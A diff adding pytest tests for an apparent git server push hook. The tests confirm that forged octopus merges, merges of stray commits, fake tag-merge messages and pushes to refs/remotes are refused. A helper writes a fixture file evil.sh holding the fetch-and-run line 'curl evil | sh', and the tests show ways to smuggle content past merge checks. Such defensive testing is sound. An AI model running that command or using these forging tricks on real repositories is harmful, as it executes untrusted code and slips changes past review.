@@ -113,3 +113,97 @@ def test_the_git_flow_finish_pushes_every_branch_it_merged(client: Path, server_
     done = push(client, "release/v1.1.0", "main", "develop", "v1.1.0")
     assert done.returncode == 0, done.stderr
     assert push(client, "--delete", "release/v1.1.0").returncode == 0
+
+
+def _evil_tree(client: Path, base: str) -> str:
+    git(client, "switch", "-q", "--detach", base)
+    (client / "evil.sh").write_text("curl evil | sh\n")
+    git(client, "add", "evil.sh")
+    tree = git(client, "write-tree").stdout.strip()
+    git(client, "reset", "-q", "--hard", base)
+    return tree
+
+
+def test_an_octopus_merge_carrying_its_own_changes_is_refused(
+    client: Path, server_repo: Path
+) -> None:
+    """Three parents, all already on main (a "sync"), and a file none of them has."""
+    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
+    commit(client, "bump")
+    git(client, "switch", "-q", "-C", "main", "origin/main")
+    git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0")
+    assert push(client, "release/v1.1.0", "main").returncode == 0
+    tree = _evil_tree(client, "main")
+    forged = git(
+        client,
+        "commit-tree",
+        tree,
+        "-p",
+        "main",
+        "-p",
+        "main^1",
+        "-p",
+        "main^2",
+        "-m",
+        "Merge branch 'main' of https://example.com/team/app into main",
+    ).stdout.strip()
+    before = server_ref(server_repo, "refs/heads/main")
+    done = push(client, f"{forged}:refs/heads/main")
+    assert done.returncode != 0
+    assert "BF205 merge-content" in done.stderr
+    assert "evil.sh" in done.stderr
+    assert server_ref(server_repo, "refs/heads/main") == before
+
+
+def test_an_octopus_merge_must_have_every_parent_on_a_branch_it_names(
+    client: Path, server_repo: Path
+) -> None:
+    git(client, "switch", "-q", "-c", "release/v1.1.0", "origin/develop")
+    commit(client, "bump", filename="bump.txt")
+    assert push(client, "release/v1.1.0").returncode == 0
+    git(client, "switch", "-q", "--detach", "origin/develop")
+    commit(client, "never on any branch", filename="other.txt")
+    stray = git(client, "rev-parse", "HEAD").stdout.strip()
+    git(client, "switch", "-q", "-C", "main", "origin/main")
+    merged = git(client, "merge", "-q", "--no-ff", "--no-edit", "release/v1.1.0", stray)
+    assert merged.returncode == 0, merged.stderr
+    done = push(client, "main")
+    assert done.returncode != 0
+    assert "BF206 merged-branch" in done.stderr
+
+
+def test_an_exempt_branch_is_no_source_for_main(client: Path, server_repo: Path) -> None:
+    git(client, "switch", "-q", "-c", "gh-pages", "origin/main")
+    commit(client, "a site, or anything", filename="evil.sh")
+    git(client, "switch", "-q", "-C", "main", "origin/main")
+    git(client, "merge", "-q", "--no-ff", "--no-edit", "gh-pages")
+    done = push(client, "gh-pages", "main")
+    assert done.returncode != 0
+    assert "merging gh-pages (exempt by 'gh-pages', so not of a type allowed here" in (done.stderr)
+
+
+def test_a_tag_merge_is_believed_only_when_the_tag_is_there(
+    client: Path, server_repo: Path
+) -> None:
+    git(client, "switch", "-q", "--detach", "origin/develop")
+    commit(client, "evil", filename="evil.sh")
+    stray = git(client, "rev-parse", "HEAD").stdout.strip()
+    git(client, "switch", "-q", "develop")
+    git(client, "merge", "-q", "--no-ff", "-m", "Merge tag 'v9.9.9' into develop", stray)
+    before = server_ref(server_repo, "refs/heads/develop")
+    done = push(client, "develop")
+    assert done.returncode != 0
+    assert "(a commit no branch points at)" in done.stderr
+    assert server_ref(server_repo, "refs/heads/develop") == before
+
+
+def test_refs_outside_branches_cannot_stand_for_one(client: Path, server_repo: Path) -> None:
+    """A server's refs/remotes/ would read as branches: they are refused, and never count."""
+    git(client, "switch", "-q", "--detach", "origin/main")
+    commit(client, "evil", filename="evil.sh")
+    done = push(client, "HEAD:refs/remotes/origin/release/v6.6.6")
+    assert done.returncode != 0
+    assert "BF001 push-input: a server's repository keeps branches under refs/heads/" in (
+        done.stderr
+    )
+    assert server_ref(server_repo, "refs/remotes/origin/release/v6.6.6") == ""
